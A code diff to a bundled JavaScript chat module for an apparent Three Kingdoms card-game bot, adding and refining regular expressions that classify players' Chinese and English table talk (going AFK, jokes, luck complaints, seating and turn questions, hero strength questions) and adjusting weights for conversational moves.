+const IS_JUDGED = /^(?:就|也|肯定|绝对|八成|多半|准|一定|到底)*(?:是?(?:哪|啥|什么)(?:头|边|身|成)|是(?:个|真|铁)?[忠反内]|[忠反内](?:贼|臣|奸)?还是)|^(?:'s| is| was| must be) (?:a |an |the )?(?:spy|rebel|reb|traitor|loyal)/;
 const DONE_TO_EN = /\b(?:[a-z]+ed|hit|struck|shot|took|stole|gave|on|at|off)\s$/;
 const CLAUSE_ENDS = [",", ".", "!", "?", ";", ":"];
 function pronouns(text, mentions, { scene, from, he: before }) {
@@ -30410,6 +30538,9 @@ function useTouchedBy(asked) {
 	return used.find(({ by }) => people.has(by)) ?? used.find(({ turn }) => turn >= scene.turn - 1) ?? null;
 }
 
+// src/chatter/moves/life/away.ts
+const AWAY = /让我想(?:想|一下|$)|别催(?!我)|收衣服|[喊叫]我去?(?:吃(?!桃|牌|刀)|回家|收|接|拿|买|下楼|睡|洗|一下)|(?:老婆|老公|我[妈爸]).{0,2}[喊叫]我了?(?:$|[,.!?])|接(?:了|个|了个)?(?:我\S{0,2}的?)?电话|保安.{0,3}(?:敲门|来|找)|等下?我(?:[一两几会下回]|\d)|(?<!(?:[你他她号公]|还是).{0,4})(?:挂机|托管|断网|掉线)(?!了?[吗么没吧])|接(?:娃|孩子)|哄娃|开[个下]?门|拿(?:个|下|一下)?(?:外卖|快递)|倒[个杯点]?水|[上去][个趟]?厕所|马上就?回|卡成|网[卡断炸]|(?:外卖|奶茶|快递)(?:到|敲门)|门口有人|稍等|\b(?:brb|afk|back in|lag(?:s|ging)?|doorbell|at the door|(?:one|a) sec|(?:get|answer)(?:ting|ing)? the door|my turn is gonna be quick)\b/;
+
 // src/chatter/plan/words/banter.ts
 const BANTER = [
 	{
@@ -30420,7 +30551,7 @@ const BANTER = [
 		}
 	},
 	{
-		heard: /让我想(?:想|一下|$)|别催(?!我)|收衣服|(?:老婆|老公|我妈|我爸).{0,2}[喊叫]我(?:吃|回家|收|接|拿|下楼|睡|洗|一下|去(?:吃|拿|接|买|收)|了?(?:$|[,.!?]))|接(?:了|个|了个)?(?:我\S{0,2}的?)?电话|保安.{0,3}(?:敲门|来|找)|等(?:我|下我)[一两几\d]|(?<!(?:[你他她号公]|还是).{0,4})(?:挂机|托管|断网|掉线)(?!了?[吗么没吧])|接(?:娃|孩子)|哄娃|开(?:个|下)?门|拿(?:个|下|一下)?(?:外卖|快递)|倒(?:个|杯|点)?水|(?:上|去)(?:个|趟)?厕所|马上(?:就)?回|卡成|网(?:卡|断|炸)|(?:外卖|奶茶|快递)到了|\b(?:brb|afk|back in|lag(?:s|ging)?|doorbell|my turn is gonna be quick)\b/,
+		heard: AWAY,
 		back: {
 			zh: ["去忙你的，你的牌没人偷看", "行，你慢慢来，桌上等你"],
 			en: ["go ahead, nobody's going to peek at your cards", "take your time, we'll wait"]
@@ -30707,7 +30838,7 @@ function isPlainlyFalse(wrong, { scene, text }) {
 	}
 	if (kind === "heal" && by === to && card === "tao")
 		return !scene.uses.some((use) => use.by === by && use.name === card);
-	const given = scene.facts.some((fact) => fact.by === by && fact.to === to && isAkin(wrong, fact));
+	const given = scene.facts.some((fact) => fact.by === by && fact.to === to && (isHandover(fact) || fact.card === card)) || scene.uses.some((use) => use.by === by && use.name === card && use.to.includes(to ?? by));
 	return isWhole3(wrong) && (kind === "heal" || kind === "give") && !given;
 }
 const isFigure = ({ kind, to }, { scene }) => kind === "death" && to !== void 0 && seatOf(scene, to)?.alive === true;
@@ -30837,13 +30968,13 @@ const WEIGHT = {
 };
 const isKnown2 = (move, all) => move.act === "ask_fact" && all.some(({ act }) => act === "ask_why" || act === "ask_role") && (move.facts ?? []).length > 0 && (move.facts ?? []).every(({ by, to, verdict }) => by !== void 0 && to !== void 0 && verdict === "true");
 const BARE2 = 5;
-const isBare = ({ act, facts = [], role }) => act === "report" && facts.length === 0 || act === "claim" && role === void 0;
+const isBare2 = ({ act, facts = [], role }) => act === "report" && facts.length === 0 || act === "claim" && role === void 0;
 const OPEN = 9.4;
 const isOpen4 = ({ act, about, role }) => act === "ask_guess" && about === void 0 && role === void 0;
 const VAGUE2 = 8.4;
 const isVague = ({ act, about, facts = [] }) => act === "ask_fact" && about === void 0 && facts.length === 0;
 const IDLE2 = 4.3;
-const isIdle = ({ act, about, promise }) => act === "order" && about === void 0 && promise === void 0;
+const isIdle = ({ act, about, promise }) => (act === "order" || act === "promise") && about === void 0 && promise === void 0;
 const MOOD = 4.2;
 const isMood = ({ act, topic }) => act === "sorrow" && topic === void 0;
 const saysWell = (fact) => fact.verdict === "false" && (isWhole3(fact) || isCounted(fact));
@@ -30853,14 +30984,14 @@ const isBareFact = ({ act, facts = [] }) => act === "ask_fact" && facts.length =
 const UNDONE2 = 5.2;
 const isUndone2 = ({ act, facts = [] }) => act === "report" && facts.length > 0 && facts.every(({ denied }) => denied === true);
 const LESSER2 = [
-	[isBare, BARE2],
+	[isBare2, BARE2],
 	[isUndone2, UNDONE2],
 	[isOpen4, OPEN],
 	[isVague, VAGUE2],
 	[isIdle, IDLE2],
 	[isMood, MOOD]
 ];
-const weightOf2 = (move) => (LESSER2.find(([is]) => is(move))?.[1] ?? WEIGHT[move.act]) + (!isQuestion(move) && isWrong(move) ? PUT_RIGHT : 0);
+const weightOf2 = (move) => (LESSER2.find(([is]) => is(move))?.[1] ?? WEIGHT[move.act]) + ((!isQuestion(move) || move.act === "ask_why") && isWrong(move) ? PUT_RIGHT : 0);
 const presses2 = (move, at, moves) => move.act === "ask_sure" && moves.slice(0, at).some((one) => isQuestion(one) && one.act !== "ask_sure");
 const weightiest = (all) => {
 	const planned = all.some(({ act }) => act === "ask_plan");
@@ -30879,11 +31010,12 @@ const ASKS_WHO = /谁|哪[个位]|举手|\b(?:who|which)\b/;
 const leadingTo = (moves, text) => !ASKS_COUNT.test(text) && moves.some(({ act }) => WANTED.has(act)) || !ASKS_NUMBER.test(text) && ASKS_WHO.test(text) && moves.some(({ act }) => act === "ask_guess" || act === "ask_role") ? moves.filter(({ act }) => act !== "ask_count") : moves;
 
 // src/chatter/flow/going-on.ts
-const GOES_ON2 = /(?:^|[,.!?;]\s*)(?:(?:lol|lmao|haha+|ok|okay|sure|right|yeah|yea|hm+|well|buddy|pal|man|bro|dude)[\s,]+)*(?:and|but|so|also|then|plus)\b|^(?:那|还有|可(?!以|能)|但|所以|再说|而且|行[,吧]|好[,吧]|哦|噢)/;
-const ASKS4 = /\?\s*$|吗|呢|干嘛|干啥|为啥|为什么|怎么|咋|\b(?:what|how) about\b/;
+const GOES_ON2 = /(?:^|[,.!?;]\s*)(?:(?:lol|lmao|haha+|ok|okay|sure|right|yeah|yea|hm+|well|buddy|pal|man|bro|dude)[\s,]+)*(?:and|but|so|also|then|plus|why|how come)\b|^(?:那|还有|为啥|为什么|凭啥|凭什么|可(?!以|能)|但|所以|再说|而且|行[,吧]|好[,吧]|哦|噢)/;
+const OBJECTS = /^(?:不?一定|也可能)|^(?:but\b|可是|但).*(?:\bhow\b|\bwhy\b|\btho|怎么|咋|解释|凭)/;
+const ASKS4 = /\?\s*$|吗|呢|干嘛|干啥|为啥|为什么|怎么|咋|凭啥|凭什么|\b(?:(?:what|how) about|why|how come)\b/;
 const WHO4 = /谁|哪[个位]|几号|大家|你们|\b(?:who|whose|anyone|anybody|everyone|guys|y'?all)\b/;
-const OBJECT_EN = /\b(?:off|on|from|to|at|onto|against|with|hitting|killing|slashing|burning|robbing|healing|saving|\w+ing)\s(?:the )?$/;
-const goesOn2 = ({ text, pointers }, from) => GOES_ON2.test(text) && ASKS4.test(text) && !WHO4.test(text) && pointers.every(({ seat, start }) => {
+const OBJECT_EN = /\b(?:off|on|from|to|at|onto|against|with|not|than|of|\w+ing|(?:why|how come) (?:not )?(?!did|do|does|is|was|would|has|are)\w+)\s(?:the )?$/;
+const goesOn2 = ({ text, pointers }, from) => OBJECTS.test(text) || GOES_ON2.test(text) && ASKS4.test(text) && !WHO4.test(text) && pointers.every(({ seat, start }) => {
 	const before = text.slice(0, start);
 	return seat === from || OBJECT_EN.test(before) || DONE_TO.test(before);
 });
@@ -31007,7 +31139,7 @@ const Clause = class {
 		const { spokenOf, befell, mentions, carried } = this.at;
 		const ofTheTwo = deed.by === this.from || deed.by === this.hearer;
 		const together = COMPANY.test(this.text) && /[跟和]我|咱|我们/.test(this.text);
-		if (together || SUPPOSED2.test(this.text) || this.at.offered === true && ofTheTwo && !/[了过]|刚/.test(this.text))
+		if (together || /^咱(?:们|俩)?把/.test(this.text) || SUPPOSED2.test(this.text) || this.at.offered === true && ofTheTwo && !/[了过]|刚/.test(this.text))
 			return { ...deed, past: false };
 		const seen = NOT_SEEN.test(this.text.slice(0, deed.start)) ? { ...deed, denied: true } : deed;
 		const whole = this.#own(NO_SUCH.test(this.text) ? { ...seen, denied: false, past: true } : seen);
@@ -31072,7 +31204,7 @@ const Clause = class {
 const defined = (fields) => Object.fromEntries(Object.entries(fields).filter(([, value]) => value !== void 0));
 
 // src/chatter/moves/follow-ups.ts
-const LEAD2 = "(?:(?:那|那么|可是|但是|但|不过|所以|嗯|哦|喔|额|呃|诶|哎|等等|哈|啧|ok|okay|so|and|but|well|then|or|also|oh|hm|m|huh|wait|yeah|yea|lol|lmao|haha+|what about|how about)[ ,]*)*";
+const LEAD2 = "(?:(?:那|那么|可是|但是|但|不过|所以|嗯|哦|喔|额|呃|诶|哎|等等|哈|啧|ok|okay|so|and|but|well|then|or|also|oh|hm+|m|huh|wait|hold on|come on|c'?mon|bro|dude|man|nah|yeah|yea|lol|lmao|haha+|what about|how about)[ ,]*)*";
 const alone2 = (...words) => new RegExp(`^${LEAD2}(?:${words.join("|")})$`);
 const TAIL = /(?:[ ,]+(?:lol|lmao|lmfao|haha\w*|tho|though|bro|dude|man|exactly|again|pls|please|huh|buddy|pal|mate|my friend|if i may ask))+$/;
 const plainly = (text) => text.replace(TAIL, "");
@@ -31122,6 +31254,9 @@ const JUST_THIS = new RegExp(
 );
 const WHY_NOT_ME = new RegExp(
 	`^${LEAD2}(?:(?:为什么|为啥|为何|怎么|咋|凭什么|凭啥).{0,8}(?:不(?:是|怀疑|疑|防|盯|猜|说|选|算)|没(?:怀疑|疑|说|猜|提|想到|算))(?:到)?我(?:呢|啊|呀|的)?|(?:how come|why)(?: it)? (?:not|isn'?t it|aint it|wasn'?t it|never) me|why (?:don'?t|didn'?t|not) (?:${U} )?(?:suspect|doubt|pick|name|say) me|why am i not .{0,24}(?:list|suspect|one|rebel|spy)|(?:how come|why) (?:i'?m|am i) not (?:sus|suspicious|suspected))$`
+);
+const ALL_OF_YOU = alone2(
+	"(?:你们|大家|各位)(?:呢|(?:怎么|咋)[看想说]|(?:觉得|说)呢|说(?:是不是|对不对))|(?:you guys|y'?all|anyone else)(?: agree| think so)?"
 );
 const PRESSED2 = new RegExp(
 	`^${LEAD2}(?:${YOU7}(?:别|不要|少|甭)(?:再|给我|跟我|老)*(?:糊弄|忽悠|打哈哈|打太极|绕(?:弯子?|圈子)?|扯(?:别的|开|远|淡)?|装(?:傻|糊涂)|敷衍|打马虎眼|转移话题|岔开(?:话题)?|卖关子|兜圈子|和稀泥|避重就轻|来这套|废话)(?:我|人|了|啊)*|${YOU7}(?:就|给我|请|能不能|能|倒是)*(?:直(?:接)?说|明说|痛快(?:点|些)?(?:说)?|正面回答|老实(?:说|交代|回答)|说(?:句)?(?:实话|准话|人话|重点)|给(?:我)?(?:句|个)(?:准话|痛快话?|实话|准信)|好好(?:说|回答))(?:行不行|好不好|吧|啊|呀|嘛)*|${YOU7}(?:到底|究竟)(?:是)?(?:谁|哪个|哪位|几号|呢|怎么看|怎么想)(?:啊|呀|嘛|呢|的|是)*|${YOU7}还?没(?:有)?(?:回答|答)(?:我)?(?:的)?(?:问题)?(?:呢|啊)*|${YOU7}?(?:答非所问|所答非所问)|我问的?(?:不)?是(?:这个|谁)|(?:stop|quit|no more|don'?t) (?:dodging?|stall(?:ing)?|joking|messing(?: around)?|avoid(?:ing)? (?:it|the question)|deflect(?:ing)?|play(?:ing)? (?:dumb|games))|(?:just )?be (?:straight|honest|real|serious)(?: with (?:me|us))?|(?:just )?(?:give me|gimme) a (?:straight|real|proper|clear) answer|straight answer(?: please)?|just (?:tell (?:me|us)|say it|answer(?: (?:me|it))?)|answer (?:me|the question|my question)|spit it out|just name (?:one|somebody|someone|names?)|cut the (?:crap|bs)|${U} (?:didn'?t|did not|still haven'?t) answer(?:ed)?(?: (?:me|my question|the question|that))?|that(?:'?s| is)(?: not|nt|n't) (?:an answer|what i asked)|not what i asked|who (?:is it|then|exactly)(?: (?:then|already|really))?)$`
@@ -31179,17 +31314,19 @@ function pressing2(texts, { exchanges, scene }, span) {
 	const asksWhy = last.asked.act === "ask_sure" || last.asked.act === "ask_evidence";
 	return filled(asksWhy ? "ask_guess" : last.asked.act, last, span);
 }
-function referring({ text, span, mentions, moment, asked, told }) {
+function referring({ text, span, mentions, moment, asked, told, spokenOf }) {
 	const { exchanges, hearer, from } = moment;
 	const last = exchanges[0];
 	const bare = text.replace(/[\s.!?~]+$/, "");
-	if (bare.length > 24) return null;
 	const awaiting = last && last.awaits !== null ? last : void 0;
 	if (awaiting) {
 		const move = answerTo(awaiting, bare, mentions, span, asked);
 		if (move) return [move];
 	}
 	const core = plainly(bare);
+	if (core.length > (/[\u3400-\u9fff]/.test(core) ? 24 : 48)) return null;
+	if (last?.asked.act === "ask_count" && /^(?:那么?|so )?是?(?:谁|who)[啊呀呢]?$/.test(core))
+		return [{ act: "ask_guess", ...last.asked.role ? { role: last.asked.role } : {}, refersTo: last.id, span }];
 	if (SHORT_SURE.test(core) && (asked || !VOWED.test(core)) && (SURE.test(core) || asked || !AGREE.test(core)))
 		return [filled("ask_sure", last, span)];
 	if (WHY_NOT_ME.test(core)) {
@@ -31215,6 +31352,7 @@ function referring({ text, span, mentions, moment, asked, told }) {
 		const explained = of.asked.act === "ask_guess" && of.answered?.move === "explain";
 		return [filled(explained ? "ask_why" : of.asked.act, of, span)];
 	}
+	if (ALL_OF_YOU.test(core) && spokenOf !== null) return [{ act: "ask_guess", about: spokenOf, span }];
 	const put = putToAnother(bare, mentions, moment, span);
 	if (put) return [put];
 	if (SAME.test(bare) && last) return [filled(last.asked.act, last, span)];
@@ -31312,6 +31450,7 @@ function answerTo(exchange, bare, mentions, span, asked) {
 }
 
 // src/chatter/moves/life/goes-on.ts
+const ORGAN = /[肾肝肺]|心脏|\b(?:kidneys?|liver|lungs?|heart(?! ?broken))\b/;
 const KINDS9 = [
 	[
 		"leaves",
@@ -31323,7 +31462,7 @@ const KINDS9 = [
 	],
 	[
 		"asks",
-		/不知道?(?:咋|怎么|如何)|有(?:啥|什么|没有?)(?:好)?(?:招|办法|法子|建议|偏方)|(?:该|我|这可)?(?:咋|怎么)(?:办|跟(?:她|他)|开口|安慰|面对|睡|哄|挽回|还(?:钱|上)|选)|该不该|支(?:个|一)?招|要不要(?:联系|去|找|跟|发|问|辞|说)|(?:给|出)(?:个|点)(?:主意|建议)|\b(?:(?:what|how) (?:should|do|would|can|could) i|(?:dunno|don'?t know|idk|no idea|not sure) how|do i (?:text|call|go|tell|reply)|any (?:tips?|advice|ideas?|tricks?)|should i (?:text|call|go|tell|ask|quit|say|see)|what would you do)\b/
+		/不知道?(?:咋|怎么|如何)|有(?:啥|什么|没有?)(?:好)?(?:招|办法|法子|建议|偏方)|(?:该|我|这可)?(?:咋|怎么)(?:办|跟(?:她|他)|开口|安慰|面对|睡|哄|挽回|还(?:钱|上)|选)|该不该|支(?:个|一)?招|要不要(?:联系|去|找|跟|发|问|辞|说)|还(?:有(?:救|戏|希望|机会)|能(?:挽回|和好|复合|回头))[吗么没]|(?:给|出)(?:个|点)(?:主意|建议)|\b(?:(?:what|how) (?:should|do|would|can|could) i|(?:dunno|don'?t know|idk|no idea|not sure) how|do i (?:text|call|go|tell|reply)|any (?:tips?|advice|ideas?|tricks?)|should i (?:text|call|go|tell|ask|quit|say|see)|what would you do)\b/
 	],
 	[
 		"you",
@@ -31358,14 +31497,37 @@ const TURNS = /[你您谁哪]|大家|各位|[哈嘿笑]|[卧我][槽靠去草]|�
 const ASKS5 = /[?吗呢]/;
 const SELF5 = /我|\b(?:i|i'm|im|my|me)\b/;
 const SAYS2 = /[\u3400-\u9fff]{5}|[a-z']+ [a-z']+ [a-z']+/;
-const stays = (text) => !NOD.test(text) && !TURNS.test(text) && (!ASKS5.test(text) || SELF5.test(text)) && SAYS2.test(text);
+const stays = (text) => !NOD.test(text) && !AWAY.test(text) && !TURNS.test(text) && (!ASKS5.test(text) || SELF5.test(text)) && SAYS2.test(text);
 function goesOnIn(text, topic) {
 	if (NOD.test(text)) return null;
 	if (topic === "work" && BLAMED.test(text)) return "unfair";
+	if (topic === "health" && ORGAN.test(text)) return "finding";
 	const kind = KINDS9.find(([, words]) => words.test(text))?.[0];
 	if (kind !== void 0) return kind;
 	if (/你|您|\b(?:you|u|ur)\b/.test(text)) return null;
 	return OF_LIFE.test(text) || whoseIn(text) !== null ? "more" : null;
+}
+
+// src/chatter/moves/life/hero-asked.ts
+const GENERAL = "(?:武?将(?!军)|英雄|\\b(?:hero(?:es)?|generals?|characters?)\\b)";
+const OF_TALE2 = /历史|演义|正史|三国|黄巾|赤壁|罗马|外国|诗|名将|谋士|投降.{1,4}的|告密|是(?:谁|干[嘛啥]的?|什么来头)(?:啊|来着|$|[,?])|没听(?:说)?过|是.{1,5}(?:儿子|女儿|爹|爸|老婆|媳妇|夫人|皇后|老公|妹|姐|哥|弟|孙子|侄|女婿)|\b(?:yellow turbans?|red cliffs?|three kingdoms|dynasty|novel|histor\w+|irl|rom(?:e|an)|poe(?:t|m)s?|known for|famous|executed|beheaded|emperor|surrendered to|whos|who (?:is|was))\b(?! (?:turn|next|side|left|the ))|s (?:sons?|kids?|daughter|wife|husband|father|dad|mom|mother|brother|sister|(?:grand|step)\w+|nephew|uncle|consort)\b/;
+const POWER2 = /超模|下水道|强度|[强弱厉好猛](?:不|没)[强弱厉好猛]|将.{0,6}(?:[强弱猛废菜难]|厉害|好用)|(?:强|厉害|弱|好用|好玩)(?:吗|么|吧|不)|怎么玩|擅长|强在|\b(?:op|(?:over|under)powered|broken|nerf\w*|tier|any good|good at|worth (?:playing|picking)|(?:is|think) .{1,16} (?:strong|weak|trash|good)(?=\W*(?:$|\?|or|lol|tho))|(?:strong|weak|bad|good) (?:hero|general))\b/;
+const SUITS = /[拿玩当选][反忠内主].{0,8}(?:好|合适|强|还是)|(?:什么|哪个|啥)身份.{0,6}(?:好|强|合适)|适合.{0,4}(?:[反忠内主]|身份)|\b(?:better|best|good|works?|fits?|suits?)\b.{0,16}\bas\b.{0,6}(?:rebel|loyal|spy|traitor|lord)|\bwh(?:at|ich) role\b/;
+const FEARED2 = new RegExp(
+	`怕.{0,8}${GENERAL}|\\b(?:fear|afraid|dread)\\b.{0,16}${GENERAL}|${GENERAL}.{0,16}\\b(?:scare\\w*|fear|dread|afraid)\\b`
+);
+const VERSION2 = /(?:标|老版|旧版?|原版|普通).{0,12}(?:界|新|梦|谋|神|这个).{0,8}(?:强|区别|不同|差|比)|(?:界|新|梦|谋|神).{0,6}(?:标|[老旧原]版).{0,6}(?:强|区别|不同|差)|\b(?:old|new|original|classic|standard) (?:version|one)\b/;
+const DUEL = /单挑|谁(?:能|会)?赢|谁(?:更|比较)?(?:强|厉害|能打|猛)|打得[过赢]|比.{1,8}(?:强|厉害|猛|能打)|\b(?:vs\.?|versus|1v1|who(?:'?d| would)? wins?|who(?:'?s| is) (?:better|stronger))\b/;
+const OF_PLAY = /反贼?|内奸?|忠臣?|一伙|先(?:打|杀|砍)|集火|可疑|\b(?:reb(?:el)?s?|spy|loyal\w*|traitor|side|suspicious|sus)\b/;
+const isHeroNamed = ({ kind, start, end }, text) => kind === "seat" && !/\d|[一二三四五六七八]号|家|位|主公|老大|\b(?:lord|boss|seat|left|right)\b/.test(text.slice(start, end));
+function seatedKindIn(text, named) {
+	if (SUITS.test(text) && (named > 0 || /将|\bhero\b/.test(text))) return "suits";
+	if (OF_PLAY.test(text)) return null;
+	if (FEARED2.test(text)) return "feared";
+	if (named === 0) return null;
+	if (VERSION2.test(text)) return "version";
+	if (named > 1 && DUEL.test(text)) return "compare";
+	return OF_TALE2.test(text) ? "opinion" : POWER2.test(text) ? "power" : null;
 }
 
 // src/chatter/moves/life/part.ts
@@ -31391,12 +31553,29 @@ const of2 = (matter, topic, act, parts) => ({
 	parts
 });
 
+// src/chatter/moves/life/table.ts
+const BESIDE2 = "(?:[上下]家|旁边|隔壁|[左右](?:边|手))";
+const SEATING = new RegExp(
+	`${BESIDE2}(?:的|坐着?的?|[俩两]个?人?)*是(?:谁|哪|几)|(?:谁|哪个|几号)(?:是|在|坐)?(?:我|你|主公)?的?${BESIDE2}|我(?:是|坐)(?:在)?(?:几号|第几|哪)|\\bwho(?:'?s| is| sits| plays)? (?:(?:on|to) (?:my|your) (?:left|right)|(?:right )?(?:next to|before|after) (?:me|you|u))\\b|\\b(?:which|what) seat am i\\b`
+);
+const TOLD2 = new RegExp(
+	`${BESIDE2}(?:就)?是 *$|\\b(?:(?:my|your) (?:left|right)|(?:before|after|next to) (?:me|you|u)) is *$`
+);
+const BORNE_OUT = /[吧吗么?]|没(?:看|记)?错|是不是|\b(?:right|correct)\b/;
+const TURN = /到我(?:了|出|的?回合)?(?:吧|吗|么|没|\?|$)|我的?回合(?:吗|\?|$)|该我(?:了|出)?(?:吗|没|\?|$)|\b(?:is it|am i) (?:my turn|up|next)\b|\bmy turn ?\?/;
+function tableIn(parts, text) {
+	const told = ({ text: words, mentions }) => mentions.some((one) => isHeroNamed(one, words) && TOLD2.test(words.slice(0, one.start)));
+	if (SEATING.test(text) || BORNE_OUT.test(text) && parts.some(told)) return "seat";
+	return TURN.test(text) ? "turn" : null;
+}
+
 // src/chatter/moves/life/small-talk.ts
 const JOKE_ASKED = /(?:讲|说|来|整|给).{0,4}(?:笑话|段子|乐子|冷笑话)|(?:笑话|段子)(?:来|讲|说)|谁(?:会|能)?(?:讲|说)(?:个)?笑话|逗(?:我|大家)(?:笑|乐|开心)|\b(?:tell (?:me|us|everyone) (?:a|another|some) (?:\w+ )?jokes?|(?:got|know|have|any(?:one|body)?) (?:\w+ ){0,3}jokes?|make me laugh|crack (?:a|us a) joke|joke,? (?:please|pls|time))\b/;
 const JOKE_MORE = /再(?:来|讲|说|整)(?:一)?(?:个|条|段)?|还有(?:吗|没|别的)|继续|换(?:一)?个|\b(?:another(?: one)?|one more|more|again|next one)\b/;
 const JOKE_MET = /冷|不好笑|好笑|笑|哈|烂|尬|就这|无聊|老掉牙|听过|没听懂|\b(?:l+o+l+|lmao|ha(?:ha)+|heh\w*|terrible|awful|bad|funny|groan|heard that|lame|cringe|good one|not bad|corny)\b/;
 const JOKE_TOLD = /(?:为什么|为啥|为何).{3,30}(?:[?,]|因为).{2,30}(?:哈|笑|狗头)|\b(?:why (?:did|do|does|is|are|was) .{5,60}[?,].{0,4}(?:'?cause|because|cuz|bc|to|so)\b|why (?:did|do|does|is|are|was) (?!you\b|u\b)[^?]{5,60}\?[^?]{6,}$|i have a joke|walks into a bar)/;
-const RIDDLE = /(?:为什么|为啥|什么|谁).{2,24}猜|猜个?谜|急转弯|^(?:so |ok |hey )*(?:why (?:did|does|is|do) (?:the|an?) (?!game|bots?\b|ai\b|chat|screen|timer)|what do (?:you|u) (?:call|get (?:when|if))\b)|\briddle\b|\bwhat has .{3,30} but\b/;
+const SELF_ANSWERED = /(?:^|[,.!] ?)(?:(?:so |ok )?(?:why (?:(?:did|do|does) the|(?:do|don'?t|can'?t|are) (?!(?:you|u|we|i|they)\b)\w+s\b)|what (?:do (?:you|u) call|did the))[^?]{5,60}\?,? ?(?:'?cause|because|cuz|bc|to|so|an?|the|it|they)\b[^?]*$|(?:什么|啥)(?:动物|东西|人|水|路|花|瓜|字|布|鸡|车)[^?]{2,16}\?,?[^?]{2,}$)/;
+const RIDDLE = /(?:为什么|为啥|什么|谁).{2,24}猜|猜个?谜|急转弯|考考(?:你|大家)|^(?:so |ok |hey )*(?:why (?:did|does|is|do) (?:the|an?) (?!game|bots?\b|ai\b|chat|screen|timer)|what do (?:you|u) (?:call|get (?:when|if))\b)|\briddle\b|\bwhat has .{3,30} but\b/;
 const KNOCK = /^knock,? knock/;
 const SOLVED = /^(?:因为|答案|是|一个|\b(?:to|because|'?cause|cuz|bc|so|it|an?|the)\b)/;
 const ASKS6 = /[?吗呢]|你们|\b(?:any\w*|you|guys)\b/;
@@ -31404,24 +31583,24 @@ const OWN3 = /^joke(?:_met)?$/;
 function jokeIn(text, last) {
 	if (JOKE_ASKED.test(text)) return "joke";
 	const riddle = last === "joke_riddle" || last === "joke_knock";
-	if (JOKE_TOLD.test(text) && !namesGame(text) || riddle && (SOLVED.test(text) || !(ASKS6.test(text) || mayBeGame(text))))
+	if (SELF_ANSWERED.test(text) || JOKE_TOLD.test(text) && !namesGame(text) || riddle && (SOLVED.test(text) || !(ASKS6.test(text) || mayBeGame(text))))
 		return "joke_told";
 	if (KNOCK.test(text)) return "joke_knock";
 	if (RIDDLE.test(text)) return "joke_riddle";
 	if (!last.startsWith("joke")) return null;
 	return JOKE_MORE.test(text) && text.length <= 24 ? "joke" : JOKE_MET.test(text) && OWN3.test(last) ? "joke_met" : null;
 }
-const BAD_LUCK = /(?:手气|运气|牌运|摸牌运|人品).{0,8}(?:臭|差|烂|背|黑|不行|不好|坏|没了?|凉|拉胯|降头|一言难尽|被偷)|(?:脸|(?<!下)手)(?:真|太|好|这么|也太)?(?:黑|臭)(?!名)|非酋|点(?:儿)?(?:真|太|好)?背|(?:摸|来|抽|起手|一手|手里|手牌|全)(?:的|了|上来)?(?:全|都|尽|净)?(?:是)?.{0,3}(?:没法看|没(?:一张|个)?能用|废牌|垃圾牌?|烂牌|破牌|废纸)|没洗手|倒(?:血)?霉.{0,6}(?:牌|手气|摸)|\b(?:(?:bad|terrible|awful|rotten|worst|shit(?:ty)?|garbage|trash|crap(?:py)?|horrible) (?:luck|draws?|hand|cards|rng)|unlucky|no luck|rng (?:hates|is not)|(?:sick|die|cry|puke).{0,24}this hand|this hand.{0,20}(?:sick|die|cry|puke|garbage|trash|awful|terrible|so bad)|cursed (?:hand|draws?|deck|cards)|jinxed)\b/;
+const BAD_LUCK = /(?:手气|运气|牌运|摸牌运|人品).{0,8}(?:臭|差|烂|背|黑|不行|不好|坏|没了?|凉|拉胯|降头|一言难尽|被偷)|(?:脸|(?<!下)手)(?:真|太|好|这么|也太)?(?:黑|臭)(?!名)|非酋|点(?:儿)?(?:真|太|好)?背|(?:摸|来|抽|起手|一手|手里|手牌|全)(?:的|了|上来)?(?:全|都|尽|净)?(?:是)?.{0,3}(?:没法看|没(?:一张|个)?能用|废牌|垃圾牌?|烂牌|破牌|废纸)|没洗手|除了.{1,8}(?:啥|什么|屁)(?:都|也)?没|这(?:是|叫)?(?:什么|啥)[破烂鬼]?(?:起手|手牌)|(?:起手|手牌|手[里上]).{0,12}(?:想死|想.{0,2}撞|上吊|想哭|穷)|\bno cards (?:at all|left)\b|倒(?:血)?霉.{0,6}(?:牌|手气|摸)|\b(?:(?:bad|terrible|awful|rotten|worst|shit(?:ty)?|garbage|trash|crap(?:py)?|horrible) (?:luck|draws?|hand|cards|rng)|unlucky|no luck|rng (?:hates|is not)|(?:sick|die|cry|puke).{0,24}this hand|this hand.{0,20}(?:sick|die|cry|puke|garbage|trash|awful|terrible|so bad)|cursed (?:hand|draws?|deck|cards)|jinxed)\b/;
 const GOOD_LUCK = /(?:手气|运气|牌运|人品).{0,5}(?:爆|好|旺|绝|顺|不错|可以|逆天|来了|在线|回来)|欧皇|欧气|天胡|神抽|转运了|走运|一手好牌|好牌.{0,3}(?:来|一手)|\b(?:lucky (?:me|draws?|day|hand)|(?:great|amazing|insane|perfect|god) (?:hand|draws?)(?! (?:you|u))|(?<!who'?s )feeling lucky|luck(?:'s| is)? (?:back|on my side)|on fire today|hot hand)\b/;
 const YOUR_LUCK = /(?:你|您|他|她).{0,4}(?:手气|运气|牌运|欧皇|欧气).{0,6}(?:好|爆|旺|绝|逆天|太|真|强)|你.{0,2}脸(?:真|太|好|这么)?白|(?:你|您)(?:是)?欧皇|\b(?:how lucky (?:are|r) (?:you|u)|(?:you(?:'re|r| are)?|u|ur) (?:so |too |such a |just |pretty )*lucky|your luck|luckiest|lucky (?:bastard|dog|duck|sob))\b/;
 const DOOMED = /(?:来|挨|中|吃).{1,6}我.{0,5}(?:没了|交代|凉|躺|寄|完|死|走人)|(?:来|挨|中|吃).{1,5}就.{0,2}(?:没|凉|寄|躺|死|完)了?我|(?:要|想)[弄搞整]死我|\b(?:i'?m|im) (?:so |pretty much )?(?:dead|done|toast|gone|screwed)\b.{0,12}\bif\b|\b(?:one more|another) .{0,20}(?:i'?m|im) (?:dead|done|toast|gone)\b/;
 const BEGS2 = /[救桃求别饶你]|\b(?:help|save|please|pls|don'?t|spare|peach|you|u)\b/;
-const WISHED2 = /打成这样|希望|但愿|借|分(?:我|点)|求|保佑|给我|祝|来点|要是|如果|\b(?:hope|wish|need|want|give me|good luck|if|lend)\b/;
+const WISHED3 = /打成这样|希望|但愿|借|分(?:我|点)|求|保佑|给我|祝|来点|要是|如果|\b(?:hope|wish|need|want|give me|good luck|if|lend)\b/;
 function luckIn(text) {
 	if (YOUR_LUCK.test(text)) return "luck_yours";
 	if (DOOMED.test(text) && !BEGS2.test(text)) return "luck_doomed";
 	if (BAD_LUCK.test(text)) return "luck_bad";
-	return GOOD_LUCK.test(text) && !WISHED2.test(text) ? "luck_good" : null;
